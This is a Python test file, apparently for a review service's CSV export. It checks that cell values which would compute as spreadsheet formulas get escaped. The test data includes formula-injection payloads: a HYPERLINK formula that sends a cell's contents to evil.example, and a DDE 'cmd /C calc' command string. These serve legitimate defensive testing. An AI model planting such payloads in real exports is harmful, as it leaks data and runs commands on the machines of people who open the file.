"""What a stranger wrote is no formula in a spreadsheet."""

import csv
import io

import pytest

from service.review.csv_files import csv_text

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    '"=1+1',
    "\uff1d1+1",
]
BEFORE = ["", "\t", "\r", "\n", "Ann;", "Ann\t", "Ann\n", "a;;"]


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_compute_is_text_whatever_separates_cells(
    before: str, formula: str
) -> None:
    text = csv_text(["who", "count"], [[f"{before}{formula}", -1]])
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row == [f"{before}'{formula}", "-1"]  # our own numbers stay numbers


def test_quotes_and_lines_stay_in_their_cell() -> None:
    said = 'a "quoted", and\nbroken line; 1-2, a@b.example = c'
    text = csv_text(["what"], [[said]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["what"], [said]]
